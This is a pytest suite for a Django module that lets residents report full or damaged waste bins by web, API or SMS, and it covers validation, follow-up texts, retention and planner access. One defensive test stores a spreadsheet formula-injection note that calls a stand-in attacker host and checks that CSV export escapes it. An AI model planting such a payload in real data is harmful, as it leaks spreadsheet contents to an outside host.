"""Residents report a full or damaged bin (web page, QR sticker, API, SMS); an open "full" report
makes the bin a must-collect in the plan and is resolved when the crew marks it collected."""

from __future__ import annotations

from datetime import datetime, time, timedelta

import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from cityos.core.accounts.models import Language, Role
from cityos.core.accounts.tests.factories import ResidentFactory, StaffFactory
from cityos.core.audit.models import AuditEntry
from cityos.core.events import subscribe
from cityos.core.notifications.models import Message
from cityos.core.registry import registry
from cityos.waste import services, sms, tasks
from cityos.waste.events import BinReported, ReportResolved
from cityos.waste.models import (
    FOLLOWERS_MAX,
    BinReport,
    ReportChannel,
    ReportFollower,
    ReportProblem,
    ReportResolution,
    Stop,
    StopKind,
)
from cityos.waste.tests.conftest import install_follow_up_text
from cityos.waste.tests.factories import BinFactory, fleet, history

pytestmark = pytest.mark.django_db
API = "/api/v1/waste"
SMS_URL = "/waste/hooks/sms/"


@pytest.fixture(autouse=True)
def _follow_up_text(db: None) -> None:
    install_follow_up_text()


@pytest.fixture
def received(monkeypatch) -> list[object]:
    """Events delivered (in-process) on commit during the test."""
    monkeypatch.setattr(registry, "subscriptions", list(registry.subscriptions))
    got: list[object] = []
    for event in (BinReported, ReportResolved):
        subscribe(event, durable=False)(got.append)
    return got


def refusal(error: pytest.ExceptionInfo[ValidationError]) -> dict[str, list[str]]:
    return error.value.message_dict


# --- The service ----------------------------------------------------------------------------


def test_a_report_is_stored_and_announced_on_commit(received, django_capture_on_commit_callbacks):
    BinFactory(ref="B-0012")
    with django_capture_on_commit_callbacks(execute=True):
        outcome = services.report_bin("b-0012 ", ReportProblem.FULL, note=" Bags on the ground ")
    report = outcome.report
    assert not outcome.repeated
    assert (report.bin.ref, report.problem, report.note, report.channel, report.count) == (
        "B-0012",
        "full",
        "Bags on the ground",
        "web",
        1,
    )
    assert report.is_open and report.resolution == ""
    assert [(e.report_id, e.repeated) for e in received] == [(report.pk, False)]  # type: ignore[attr-defined]


def test_each_bad_report_is_refused_on_its_field():
    BinFactory(ref="B-0001")
    BinFactory(ref="B-0002", is_active=False)
    with pytest.raises(ValidationError) as empty:
        services.report_bin("  ", ReportProblem.FULL)
    assert refusal(empty) == {"bin": ["Give the bin's reference: it is printed on its sticker."]}
    with pytest.raises(ValidationError) as unknown:
        services.report_bin("B-9999", ReportProblem.FULL)
    assert refusal(unknown) == {"bin": ["We do not know the bin “B-9999”. Check the reference printed on its sticker."]}
    with pytest.raises(ValidationError) as inactive:
        services.report_bin("B-0002", ReportProblem.DAMAGED)
    assert refusal(inactive) == {"bin": ["Bin B-0002 is out of service and cannot be reported."]}
    with pytest.raises(ValidationError) as no_problem:
        services.report_bin("B-0001", "")
    assert refusal(no_problem) == {"problem": ["Choose what is wrong with the bin."]}
    with pytest.raises(ValidationError) as bad_problem:
        services.report_bin("B-0001", "smelly")
    assert refusal(bad_problem) == {"problem": ["Choose full, damaged or something else."]}
    with pytest.raises(ValidationError) as long_note:
        services.report_bin("B-0001", ReportProblem.OTHER, note="x" * 501)
    assert refusal(long_note) == {"note": ["Keep the note to 500 characters (it has 501)."]}
    with pytest.raises(ValidationError) as bad_phone:
        services.report_bin("B-0001", ReportProblem.FULL, channel=ReportChannel.SMS, phone="not a number")
    assert list(refusal(bad_phone)) == ["phone"]
    assert not BinReport.objects.exists()
    assert services.report_bin("B-0001", ReportProblem.OTHER, note="x" * 500).report.note == "x" * 500


def test_a_repeat_adds_to_the_open_report_of_the_same_problem():
    BinFactory(ref="B-0003")
    first = services.report_bin("B-0003", ReportProblem.FULL).report
    again = services.report_bin("B-0003", ReportProblem.FULL, note="Still full", phone="+1 212 555 0142")
    assert again.repeated and again.report.pk == first.pk
    first.refresh_from_db()
    assert first.count == 2 and first.note == "Still full" and first.phone == ""
    assert list(first.followers.values_list("phone", flat=True)) == ["+12125550142"]  # texted too
    damaged = services.report_bin("B-0003", ReportProblem.DAMAGED)
    assert not damaged.repeated and damaged.report.pk != first.pk  # another problem: its own report
    services.resolve_report(first, ReportResolution.DISMISSED, user=None)
    assert not services.report_bin("B-0003", ReportProblem.FULL).repeated  # a resolved one is not reused
    assert BinReport.objects.count() == 3


def test_staff_resolve_a_report_once_with_a_known_resolution(received, django_capture_on_commit_callbacks):
    BinFactory(ref="B-0004")
    report = services.report_bin("B-0004", ReportProblem.DAMAGED).report
    with pytest.raises(ValidationError) as unknown:
        services.resolve_report(report, "fixed", user=None)
    assert refusal(unknown) == {"resolution": ["Choose collected or dismissed."]}
    with django_capture_on_commit_callbacks(execute=True):
        services.resolve_report(report, ReportResolution.DISMISSED, user=None)
    assert report.resolution == "dismissed" and report.resolved_at is not None
    with pytest.raises(ValidationError) as twice:
        services.resolve_report(report, ReportResolution.COLLECTED, user=None)
    assert refusal(twice) == {"resolution": ["This report is already resolved."]}
    assert [e.resolution for e in received if isinstance(e, ReportResolved)] == ["dismissed"]


def test_phone_numbers_and_notes_are_cleared_after_the_retention_period(settings):
    settings.CITYOS_WASTE_REPORT_PHONE_DAYS = "30"
    BinFactory(ref="B-0005")
    BinFactory(ref="B-0006")
    now = timezone.now()
    old = services.report_bin(
        "B-0005", "full", phone="+12125550142", note="Ask Mrs Lee at no. 4", at=now - timedelta(days=31)
    ).report
    recent = services.report_bin("B-0006", "full", phone="+12125550143", at=now - timedelta(days=29)).report
    assert tasks.clear_old_report_phones.call() == 1
    old.refresh_from_db()
    recent.refresh_from_db()
    assert old.phone == "" and old.note == "" and recent.phone == "+12125550143"
    assert AuditEntry.objects.filter(action="retention", object_type="waste.BinReport").count() == 1
    assert tasks.clear_old_report_phones.call() == 0


def test_a_followers_number_is_kept_for_the_retention_period_from_when_they_reported(settings):
    settings.CITYOS_WASTE_REPORT_PHONE_DAYS = "30"
    BinFactory(ref="B-0016")
    now = timezone.now()
    services.report_bin("B-0016", "full", phone="+12125550142", at=now - timedelta(days=40))
    services.report_bin("B-0016", "full", phone="+12125550143", at=now - timedelta(days=31))
    services.report_bin("B-0016", "full", phone="+12125550144", at=now - timedelta(days=31))
    services.report_bin("B-0016", "full", phone="+12125550144", at=now - timedelta(days=2))  # again: kept anew
    assert tasks.clear_old_report_phones.call() == 2  # the report's own number and one follower's
    assert list(ReportFollower.objects.values_list("phone", flat=True)) == ["+12125550144"]
    assert AuditEntry.objects.filter(action="retention", object_type="waste.ReportFollower").count() == 1
    assert tasks.clear_old_report_phones.call() == 0


def test_a_resident_who_reported_by_sms_is_texted_when_the_bin_is_emptied_and_their_number_forgotten(
    django_capture_on_commit_callbacks,
):
    BinFactory(ref="B-0007")
    report = services.report_bin("B-0007", "full", channel="sms", phone="+12125550142", language="es").report
    emptied = timezone.make_aware(datetime(2025, 3, 2, 9, 40))
    with django_capture_on_commit_callbacks() as queued:
        services.resolve_report(report, ReportResolution.COLLECTED, at=emptied, user=None)
    message = Message.objects.get(template_key=services.TEMPLATE_REPORT_COLLECTED)
    assert (message.address, message.channel, message.language, message.state) == (
        "+12125550142",
        "sms",
        "es",
        "queued",
    )
    # Resolved on another day than today: the text says which day.
    assert message.body == f"Vaciamos el contenedor B-0007 de su aviso {report.pk} a las 2025-03-02 09:40. Gracias."
    assert len(queued) == 2  # its delivery and the ReportResolved event wait for the commit
    report.refresh_from_db()
    assert report.phone == "" and report.masked_phone == ""


def test_a_dismissed_report_forgets_the_number_and_a_damaged_one_never_keeps_it():
    BinFactory(ref="B-0008")
    full = services.report_bin("B-0008", "full", channel="sms", phone="+12125550142")
    damaged = services.report_bin("B-0008", "damaged", channel="sms", phone="+12125550143")
    assert full.texted and not damaged.texted  # only a full bin has news to send (that it was emptied)
    assert damaged.report.phone == "" and damaged.report.language == ""
    services.resolve_report(full.report, ReportResolution.DISMISSED, user=None)
    services.resolve_report(damaged.report, ReportResolution.COLLECTED, user=None)
    full.report.refresh_from_db()
    assert full.report.phone == "" and not Message.objects.exists()


def test_numbers_left_on_a_repeat_follow_the_report_once_each_in_their_own_language():
    BinFactory(ref="B-0010")
    first = services.report_bin("B-0010", "full")
    second = services.report_bin("B-0010", "full", phone="+34612345678", language="es")
    third = services.report_bin("B-0010", "full", phone="+1 212 555 0179", language="en")
    again = services.report_bin("B-0010", "full", phone="+12125550179", language="zh-hant")
    assert (first.texted, second.texted, third.texted, again.texted) == (False, True, True, True)
    report = again.report
    assert (report.phone, report.language, report.count) == ("", "", 4)  # the first resident left none
    followers = report.followers.order_by("phone").values_list("phone", "language")
    assert list(followers) == [("+12125550179", "zh-hant"), ("+34612345678", "es")]  # once, as last asked
    services.report_bin("B-0010", "full", phone="+12125550100", language="xx")
    assert report.followers.get(phone="+12125550100").language == ""  # unknown: texted in English


def test_the_first_residents_number_never_follows_its_own_report():
    BinFactory(ref="B-0017")
    first = services.report_bin("B-0017", "full", phone="+12125550142")
    again = services.report_bin("B-0017", "full", phone="+1 212 555 0142")
    assert again.texted and again.report.phone == "+12125550142" and not ReportFollower.objects.exists()
    services.resolve_report(first.report, ReportResolution.COLLECTED, user=None)
    assert Message.objects.filter(address="+12125550142").count() == 1


def test_everyone_who_left_a_number_on_a_full_bin_is_texted_in_their_language_and_then_forgotten():
    BinFactory(ref="B-0013")
    services.report_bin("B-0013", "full", channel="sms", phone="+34612345678", language="es")
    services.report_bin("B-0013", "full", phone="+886912345678", language="zh-hant")
    report = services.report_bin("B-0013", "full", phone="+12125550142").report
    services.resolve_report(report, ReportResolution.COLLECTED, user=None)
    sent = dict(
        Message.objects.filter(template_key=services.TEMPLATE_REPORT_COLLECTED).values_list("address", "language")
    )
    assert sent == {"+34612345678": "es", "+886912345678": "zh-hant", "+12125550142": "en"}
    assert not ReportFollower.objects.exists()
    deleted = AuditEntry.objects.filter(action="delete", object_type="waste.ReportFollower")
    assert deleted.count() == 2  # forgetting a number is on the record too


def test_a_report_keeps_at_most_its_followers_limit_and_tells_the_rest_they_will_not_be_texted():
    BinFactory(ref="B-0014")
    services.report_bin("B-0014", "full", phone="+12125550100")
    outcomes = [services.report_bin("B-0014", "full", phone=f"+121255501{n:02d}") for n in range(1, FOLLOWERS_MAX + 2)]
    assert [o.texted for o in outcomes] == [True] * FOLLOWERS_MAX + [False]
    assert ReportFollower.objects.count() == FOLLOWERS_MAX and outcomes[-1].report.count == FOLLOWERS_MAX + 2


def test_a_text_that_fails_for_one_resident_still_reaches_the_others(monkeypatch):
    BinFactory(ref="B-0018")
    services.report_bin("B-0018", "full", phone="+12125550100")
    services.report_bin("B-0018", "full", phone="+12125550101")
    report = services.report_bin("B-0018", "full", phone="+12125550102").report
    send = services.notifications.send_to_address

    def gateway_refuses_one(address: str, *args: object, **kwargs: object) -> object:
        if address == "+12125550101":
            raise RuntimeError("gateway refused the number")
        return send(address, *args, **kwargs)

    monkeypatch.setattr(services.notifications, "send_to_address", gateway_refuses_one)
    services.resolve_report(report, ReportResolution.COLLECTED, user=None)
    assert sorted(Message.objects.values_list("address", flat=True)) == ["+12125550100", "+12125550102"]
    report.refresh_from_db()
    assert report.resolution == "collected" and not ReportFollower.objects.exists()  # forgotten all the same


def test_a_dismissed_report_forgets_its_followers_without_texting_them():
    BinFactory(ref="B-0015")
    services.report_bin("B-0015", "full", phone="+12125550100")
    report = services.report_bin("B-0015", "full", phone="+12125550101").report
    services.resolve_report(report, ReportResolution.DISMISSED, user=None)
    assert not ReportFollower.objects.exists() and not Message.objects.exists()


def test_the_texts_fit_one_sms_part_in_every_language():
    from cityos.core.notifications.rendering import sms_length

    for number, language in (("+12125550142", "en"), ("+34612345678", "es"), ("+886912345678", "zh-hant")):
        bin_ = BinFactory()
        report = services.report_bin(bin_.ref, "full", phone=number, language=language).report
        services.resolve_report(report, ReportResolution.COLLECTED, user=None)
        body = Message.objects.get(address=number).body
        assert sms_length(body).parts == 1, (language, body)


def test_a_text_that_cannot_be_sent_never_undoes_the_resolution(monkeypatch):
    from django.db import DatabaseError

    from cityos.core.notifications.models import MessageTemplate

    BinFactory(ref="B-0009")
    BinFactory(ref="B-0011")
    # The city deleted the text: that turns the follow-up off.
    MessageTemplate.objects.filter(key=services.TEMPLATE_REPORT_COLLECTED).delete()
    report = services.report_bin("B-0009", "full", channel="sms", phone="+12125550142").report
    services.resolve_report(report, ReportResolution.COLLECTED, user=None)
    report.refresh_from_db()
    assert report.resolution == "collected" and report.phone == "" and not Message.objects.exists()
    assert not MessageTemplate.objects.filter(key=services.TEMPLATE_REPORT_COLLECTED).exists()  # stays off

    # The message log fails mid-write: its savepoint rolls back, the resolution commits.
    install_follow_up_text()

    def broken_save(*args: object, **kwargs: object) -> None:
        raise DatabaseError("disk full")

    monkeypatch.setattr(Message, "save", broken_save)
    other = services.report_bin("B-0011", "full", channel="sms", phone="+12125550143").report
    services.resolve_report(other, ReportResolution.COLLECTED, user=None)
    other.refresh_from_db()
    assert other.resolution == "collected" and other.phone == ""


# --- The planner ------------------------------------------------------------------------------


def test_a_reported_full_bin_must_be_collected_and_its_report_resolves_when_collected():
    fleet()
    day = timezone.localdate() + timedelta(days=1)
    end = timezone.make_aware(datetime.combine(day, time(5)))
    for i in range(3):
        history(BinFactory(), end, 2, lambda t: 1.0, start_fill=60 + i, empty_at=10_000)
    quiet = BinFactory(ref="QUIET-1")
    history(quiet, end, 2, lambda t: 0.05, start_fill=5, empty_at=10_000)  # about 7% full: the forecast skips it

    before = services.build_plan(day, seconds=0.3, now=end)
    assert not Stop.objects.filter(route__plan=before, bin=quiet).exists()

    report = services.report_bin(
        "QUIET-1", ReportProblem.FULL, channel="sms", phone="+886912345678", language="zh-hant"
    )
    report = report.report
    services.report_bin("QUIET-1", ReportProblem.FULL, phone="+34612345678", language="es")  # a follower
    damaged = services.report_bin("QUIET-1", ReportProblem.DAMAGED).report
    after = services.build_plan(day, seconds=0.3, now=end)
    stop = Stop.objects.select_related("route", "bin").get(route__plan=after, bin=quiet, kind=StopKind.BIN)
    assert stop.required and stop.predicted_fill == 100

    services.mark_collected(stop, user=StaffFactory(roles=[Role.SERVICE_AGENT]), at=end + timedelta(hours=3))
    report.refresh_from_db()
    damaged.refresh_from_db()
    assert report.resolution == ReportResolution.COLLECTED and report.resolved_at == stop.collected_at
    texted = Message.objects.get(address="+886912345678")
    assert texted.language == "zh-hant" and texted.body.startswith("您通報的垃圾桶QUIET-1")
    assert Message.objects.get(address="+34612345678").body.startswith("Vaciamos el contenedor QUIET-1")
    assert not ReportFollower.objects.exists()
    assert damaged.is_open  # emptying a bin does not repair it
    again = services.build_plan(day, seconds=0.3, now=end)
    assert not Stop.objects.filter(route__plan=again, bin=quiet).exists()  # no open report: back to the forecast


# --- SMS --------------------------------------------------------------------------------------


@pytest.fixture
def gateway(settings) -> Client:
    settings.CITYOS_GATEWAY_TOKEN = "gw-secret"
    return Client(headers={"Authorization": "Bearer gw-secret"})


def _text(client: Client, text: str, sender: str = "+14155550123") -> dict:
    response = client.post(SMS_URL, {"from": sender, "text": text}, content_type="application/json")
    assert response.status_code == 200
    return response.json()


def test_the_sms_hook_needs_the_gateway_token(settings):
    settings.CITYOS_GATEWAY_TOKEN = "gw-secret"
    response = Client().post(SMS_URL, {"from": "+14155550123", "text": "BIN B-1"}, content_type="application/json")
    assert response.status_code == 401 and not BinReport.objects.exists()


def test_a_text_reports_the_bin_and_replies_with_the_number_in_the_senders_language(gateway):
    BinFactory(ref="B-0012")
    english = _text(gateway, "bin b-0012 full.", sender="+1 415 555 0123")
    report = BinReport.objects.get()
    assert english == {
        "action": "reported",
        "reply": f"Thank you. Your report on bin B-0012 is number {report.pk}. "
        "We will text you once the bin has been emptied.",  # a full bin: its sender is texted
    }
    assert report.channel == "sms" and report.phone == "+14155550123" and report.problem == "full"
    assert report.language == "en"  # the follow-up text is sent in the reply's language

    chinese = _text(gateway, "垃圾桶 B-0012 滿")
    assert chinese["action"] == "reported_again"
    assert chinese["reply"] == (
        f"謝謝。垃圾桶 B-0012 已有人回報（回報編號 {report.pk}），我們已將您的回報加入其中。"  # noqa: RUF001
        "垃圾桶清空後，我們會傳簡訊通知您。"  # noqa: RUF001  # Chinese puts no space after 。
    )
    spanish = _text(gateway, "CONTENEDOR B-0012 ROTO")
    damaged = BinReport.objects.get(problem="damaged")
    assert spanish["reply"] == f"Gracias. Tu aviso sobre el contenedor B-0012 es el número {damaged.pk}."  # no news
    # The English keyword replies in the sender's account language.
    ResidentFactory(phone="+14155550199", language=Language.SPANISH)
    again = _text(gateway, "BIN B-0012 damaged", sender="+14155550199")
    assert again["reply"].startswith("Gracias. El contenedor B-0012 ya tenía un aviso (número")
    report.refresh_from_db()
    assert report.count == 2


def test_a_text_says_what_to_fix(gateway):
    BinFactory(ref="B-0012")
    help_ = _text(gateway, "BIN")
    assert help_["action"] == "bin_help" and "e.g. BIN BIN-0012 FULL" in help_["reply"]
    unknown = _text(gateway, "BIN B-9999")
    assert unknown["action"] == "refused"
    assert unknown["reply"].startswith("We do not know the bin “B-9999”.")
    word = _text(gateway, "contenedor B-0012 sucio")
    assert word["action"] == "unknown_problem" and word["reply"].startswith("No entendimos «sucio».")
    zh = _text(gateway, "垃圾桶 B-9999")
    assert zh["action"] == "refused" and "B-9999" in zh["reply"] and "垃圾桶" in zh["reply"]
    assert "。 " not in zh["reply"] and "。" in zh["reply"]  # sentences joined as Chinese writes them
    assert _text(gateway, "binoculars for sale")["action"] == "ignored"
    assert not BinReport.objects.exists()


def test_the_sticker_prints_each_languages_keyword_so_the_reply_comes_in_that_language(monkeypatch):
    from cityos.core.web.pdf import PrintedPage
    from cityos.waste.sticker import sticker_pdf

    assert [sms.keyword_for(code) for code in ("en", "zh-hant", "es")] == ["BIN", "垃圾桶", "CONTENEDOR"]
    for code in ("zh-hant", "es"):
        query = sms.parse(f"{sms.keyword_for(code)} B-0012")
        assert query is not None and query.language == code and query.ref == "B-0012"
    printed: list[tuple[str, str]] = []
    original = PrintedPage.line

    def line(self: PrintedPage, text: str, language: str, *args: object, **kwargs: object) -> None:
        printed.append((language, text))
        original(self, text, language, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(PrintedPage, "line", line)
    sticker_pdf(BinFactory(ref="B-0012"), "https://city.example/waste/bins/B-0012/report/")
    texts = dict(printed[:3])
    assert "BIN B-0012" in texts["en"] and "垃圾桶 B-0012" in texts["zh-hant"] and "CONTENEDOR B-0012" in texts["es"]


def test_parse_reads_keyword_reference_and_problem():
    assert sms.parse("BIN B-1") == sms.BinQuery("BIN", "", "B-1", "full", "")
    assert sms.parse("垃圾桶B-1 壞") == sms.BinQuery("垃圾桶", "zh-hant", "B-1", "damaged", "壞")
    assert sms.parse("hello") is None


# --- Pages ------------------------------------------------------------------------------------


def test_the_public_form_reports_a_bin_and_confirms_with_its_number(client):
    BinFactory(ref="B-0012")
    page = client.get(reverse("waste:bin-report", args=["B-0012"]))
    assert page.status_code == 200 and 'value="B-0012"' in page.content.decode()
    response = client.post(reverse("waste:bin-report", args=["B-0012"]), {"bin": "B-0012", "problem": "full"})
    assert response.status_code == 302
    report = BinReport.objects.get()
    done = client.get(response["Location"]).content.decode()
    assert f"Your report number is {report.pk}." in done
    repeat = client.post(reverse("waste:report"), {"bin": "B-0012", "problem": "full"}, follow=True)
    assert "This bin was already reported; we added yours to that report (2 reports so far)." in repeat.content.decode()
    assert client.get(reverse("waste:report-done", args=["forged:token"])).status_code == 404


def test_a_resident_who_leaves_a_number_on_the_form_is_texted_in_the_pages_language(client):
    BinFactory(ref="B-0012")
    response = client.post(
        reverse("waste:report"),
        {"bin": "B-0012", "problem": "full", "phone": "+1 212 555 0142"},
        headers={"accept-language": "zh-hant"},
        follow=True,
    )
    assert "垃圾桶清空後，我們會傳簡訊通知您。" in response.content.decode()  # noqa: RUF001
    report = BinReport.objects.get()
    assert (report.phone, report.language, report.channel) == ("+12125550142", "zh-hant", "web")
    services.resolve_report(report, ReportResolution.COLLECTED, user=None)
    assert Message.objects.get().body.startswith("您通報的垃圾桶B-0012")
    bad = client.post(reverse("waste:report"), {"bin": "B-0012", "problem": "full", "phone": "12"})
    assert bad.status_code == 400
    assert '<ul class="errorlist" id="id_phone_error"><li>This is not a valid phone number.' in bad.content.decode()
    assert BinReport.objects.count() == 1


def test_the_public_form_shows_each_error_next_to_its_field_in_the_users_language(client):
    BinFactory(ref="B-0012")
    response = client.post(reverse("waste:report"), {"bin": "B-77", "problem": ""})
    html = response.content.decode()
    assert response.status_code == 400
    # Every mistake at once: the unknown bin and the missing problem, each next to its field.
    assert '<ul class="errorlist" id="id_bin_error"><li>We do not know the bin “B-77”.' in html
    assert '<ul class="errorlist" id="id_problem_error"><li>Choose what is wrong with the bin.</li>' in html
    unknown = client.post(reverse("waste:report"), {"bin": "B-77", "problem": "full"}).content.decode()
    assert 'id="id_bin_error"><li>We do not know the bin “B-77”. Check the reference printed on its sticker.' in unknown
    spanish = client.post(
        reverse("waste:report"), {"bin": "B-77", "problem": "full"}, headers={"accept-language": "es"}
    ).content.decode()
    assert 'id="id_bin_error"><li>No conocemos el contenedor «B-77».' in spanish
    assert not BinReport.objects.exists()


def test_the_public_form_is_rate_limited_per_address(client, settings):
    settings.CITYOS_WASTE_REPORT_LIMIT_PER_HOUR = "2"
    BinFactory(ref="B-0012")
    from django.core.cache import cache

    cache.clear()
    for _ in range(2):
        assert client.post(reverse("waste:report"), {"bin": "B-0012", "problem": "full"}).status_code == 302
    assert client.post(reverse("waste:report"), {"bin": "B-0012", "problem": "full"}).status_code == 429
    cache.clear()


def test_reports_are_for_planners_only(client, staff_client):
    assert client.get(reverse("waste:reports")).status_code == 302
    resident = Client()
    resident.force_login(ResidentFactory())
    assert resident.get(reverse("waste:reports")).status_code == 403
    assert resident.get(reverse("waste:reports") + "?format=csv").status_code == 403
    assert resident.get(f"{API}/reports").status_code == 403
    assert client.get(reverse("waste:reports") + "?format=csv").status_code == 302
    _, crew = staff_client(Role.SERVICE_AGENT)
    assert crew.get(reverse("waste:reports")).status_code == 403
    assert crew.post(reverse("waste:report-resolve", args=[1]), {"resolution": "collected"}).status_code == 403


def test_planners_filter_export_and_resolve_reports_with_phones_masked(staff_client):
    full = BinFactory(ref="B-0012")
    BinFactory(ref="B-0013")
    report = services.report_bin("B-0012", "full", channel="sms", phone="+12125550142").report
    services.report_bin("B-0012", "full", phone="+12125550177")
    services.report_bin("B-0013", "damaged", note="Lid broken")
    _, planner = staff_client(Role.OPERATOR)
    html = planner.get(reverse("waste:reports")).content.decode()
    assert "B-0012" in html and "B-0013" in html and "+1•••••0142" in html and "+12125550142" not in html
    assert "and 1 more number" in html and "0177" not in html  # a follower is counted, never shown
    damaged = planner.get(reverse("waste:reports") + "?status=open&problem=damaged").content.decode()
    assert "B-0013" in damaged and "B-0012" not in damaged
    csv = planner.get(reverse("waste:reports") + "?status=&format=csv").content.decode()
    assert csv.splitlines()[0].startswith("id,bin,problem") and "Lid broken" in csv and "+12125550142" not in csv
    assert ",phone,followers,count," in csv.splitlines()[0] and ",'+1•••••0142,1,2," in csv and "0177" not in csv
    listed = planner.get(f"{API}/reports?status=open&problem=full").json()["results"]
    assert [(r["phone"], r["followers"]) for r in listed] == [("+1•••••0142", 1)]
    # Residents' notes are shown in full, so each page or export that shows one is audited.
    noted = BinReport.objects.get(note="Lid broken")
    audited = AuditEntry.objects.filter(object_type="waste.BinReport", fields=["note"])
    assert [e.action for e in audited.order_by("pk")] == ["read", "read", "export"]
    assert all(e.changes["ids"] == [str(noted.pk)] for e in audited)
    assert "+1•••••0142" in planner.get(reverse("waste:bin", args=[full.pk])).content.decode()
    done = planner.post(reverse("waste:report-resolve", args=[report.pk]), {"resolution": "collected"}, follow=True)
    assert f"Report #{report.pk} on bin B-0012 resolved: Collected." in done.content.decode()
    report.refresh_from_db()
    assert report.resolution == "collected"
    assert "B-0012" not in planner.get(reverse("waste:reports")).content.decode()  # open ones by default
    assert "B-0012" in planner.get(reverse("waste:reports") + "?status=resolved").content.decode()
    bin_page = planner.get(reverse("waste:bin", args=[full.pk])).content.decode()
    assert "Print the QR sticker (PDF)" in bin_page and "0142" not in bin_page  # resolved: the number is gone
    sticker = planner.get(reverse("waste:bin-sticker", args=[full.pk]))
    assert sticker["Content-Type"] == "application/pdf" and sticker.content.startswith(b"%PDF")


def test_the_home_page_links_to_the_report_form(client):
    assert reverse("waste:report") in client.get("/").content.decode()


# --- API --------------------------------------------------------------------------------------


def test_anyone_can_report_through_the_api_and_refusals_name_the_field(client):
    BinFactory(ref="B-0012")
    made = client.post(f"{API}/reports", {"bin": "B-0012", "problem": "full"}, content_type="application/json")
    assert made.status_code == 201
    body = made.json()
    assert body["bin"] == "B-0012" and body["repeated"] is False and body["count"] == 1
    assert body["number"] == BinReport.objects.get().pk
    again = client.post(f"{API}/reports", {"bin": "B-0012", "problem": "full"}, content_type="application/json")
    assert again.json()["repeated"] is True and again.json()["count"] == 2
    unknown = client.post(f"{API}/reports", {"bin": "nope", "problem": "full"}, content_type="application/json")
    assert unknown.status_code == 422 and unknown["Content-Type"].startswith("application/problem+json")
    assert any(e["field"].endswith("bin") for e in unknown.json()["errors"])
    bad = client.post(f"{API}/reports", {"bin": "B-0012", "problem": "smelly"}, content_type="application/json")
    assert bad.status_code == 422
    long = client.post(
        f"{API}/reports", {"bin": "B-0012", "problem": "other", "note": "x" * 501}, content_type="application/json"
    )
    assert long.status_code == 422 and BinReport.objects.count() == 1
    nul = client.post(
        f"{API}/reports", {"bin": "B-0012", "problem": "other", "note": "a\x00b"}, content_type="application/json"
    )
    assert nul.status_code == 422 and any(e["field"].endswith("note") for e in nul.json()["errors"])
    phone = client.post(
        f"{API}/reports", {"bin": "B-0012", "problem": "damaged", "phone": "555"}, content_type="application/json"
    )
    assert phone.status_code == 422 and any(e["field"].endswith("phone") for e in phone.json()["errors"])
    texted = client.post(
        f"{API}/reports",
        {"bin": "B-0012", "problem": "full", "phone": "+34 612 345 678"},
        content_type="application/json",
        headers={"accept-language": "es"},
    )
    assert texted.status_code == 201 and texted.json()["texted"] is True
    made = BinReport.objects.get(pk=texted.json()["number"])
    follower = made.followers.get()  # the report was already open (made above without a number)
    assert (follower.phone, follower.language) == ("+34612345678", "es")
    damaged = client.post(
        f"{API}/reports",
        {"bin": "B-0012", "problem": "damaged", "phone": "+34 612 345 678"},
        content_type="application/json",
    )
    assert damaged.json()["texted"] is False  # only a full bin has news to send


def test_only_planners_read_reports_through_the_api(client, staff_client):
    BinFactory(ref="B-0012")
    services.report_bin("B-0012", "full", channel="sms", phone="+12125550142")
    assert client.get(f"{API}/reports").status_code == 401
    _, crew = staff_client(Role.SERVICE_AGENT)
    assert crew.get(f"{API}/reports").status_code == 403
    _, planner = staff_client(Role.OPERATOR)
    page = planner.get(f"{API}/reports").json()
    assert page["count"] == 1 and page["results"][0]["phone"] == "+1•••••0142"
    assert planner.get(f"{API}/reports?status=resolved").json()["count"] == 0
    report_id = page["results"][0]["id"]
    resolved = planner.post(
        f"{API}/reports/{report_id}/resolve", {"resolution": "dismissed"}, content_type="application/json"
    )
    assert resolved.status_code == 200 and resolved.json()["resolution"] == "dismissed"
    twice = planner.post(
        f"{API}/reports/{report_id}/resolve", {"resolution": "dismissed"}, content_type="application/json"
    )
    assert twice.status_code == 422


# --- Abuse, races and stale reports (review) --------------------------------------------------


def test_a_note_that_looks_like_a_formula_is_exported_as_text(staff_client):
    BinFactory(ref="B-0012")
    services.report_bin("B-0012", "other", note='=HYPERLINK("https://evil.example/?"&B2,"open")')
    _, planner = staff_client(Role.OPERATOR)
    page = planner.get(reverse("waste:reports") + "?status=&format=csv").content.decode()
    assert "'=HYPERLINK(" in page
    api = b"".join(planner.get(f"{API}/reports?format=csv").streaming_content).decode()
    assert "'=HYPERLINK(" in api


def test_the_api_counts_reports_against_the_forms_hourly_limit(client, settings):
    settings.CITYOS_WASTE_REPORT_LIMIT_PER_HOUR = "2"
    BinFactory(ref="B-0012")
    answers = [
        client.post(f"{API}/reports", {"bin": "B-0012", "problem": "full"}, content_type="application/json")
        for _ in range(3)
    ]
    assert [a.status_code for a in answers] == [201, 201, 429]
    assert answers[2]["Content-Type"].startswith("application/problem+json") and answers[2]["Retry-After"]
    assert BinReport.objects.get().count == 2


def test_a_report_repeated_after_the_collection_stays_open():
    fleet()
    target = BinFactory(ref="B-0012")
    report = services.report_bin("B-0012", "full", at=timezone.now() - timedelta(hours=2)).report
    day = timezone.localdate() + timedelta(days=1)
    end = timezone.make_aware(datetime.combine(day, time(5)))
    history(target, end, 2, lambda t: 0.05, start_fill=5, empty_at=10_000)
    plan = services.build_plan(day, seconds=0.3, now=end)
    stop = Stop.objects.get(route__plan=plan, bin=target, kind=StopKind.BIN)
    emptied_at = end + timedelta(hours=3)  # recorded late: before the repeat below
    services.report_bin("B-0012", "full", at=emptied_at + timedelta(minutes=30))
    services.mark_collected(stop, user=StaffFactory(roles=[Role.SERVICE_AGENT]), at=emptied_at)
    report.refresh_from_db()
    assert report.is_open and report.count == 2  # "full again" after the emptying is not lost


def test_a_stale_copy_of_a_report_cannot_resolve_it_twice():
    BinFactory(ref="B-0012")
    report = services.report_bin("B-0012", "full").report
    stale = BinReport.objects.get(pk=report.pk)
    services.resolve_report(report, ReportResolution.DISMISSED, user=None)
    with pytest.raises(ValidationError) as twice:
        services.resolve_report(stale, ReportResolution.COLLECTED, user=None)
    assert refusal(twice) == {"resolution": ["This report is already resolved."]}
    assert BinReport.objects.get(pk=report.pk).resolution == ReportResolution.DISMISSED


def test_taking_a_bin_out_of_service_dismisses_its_open_reports():
    target = BinFactory(ref="B-0012")
    report = services.report_bin("B-0012", "damaged").report
    services.save_bin({"is_active": False}, bin=target, user=None)
    report.refresh_from_db()
    assert report.resolution == ReportResolution.DISMISSED and not report.is_open


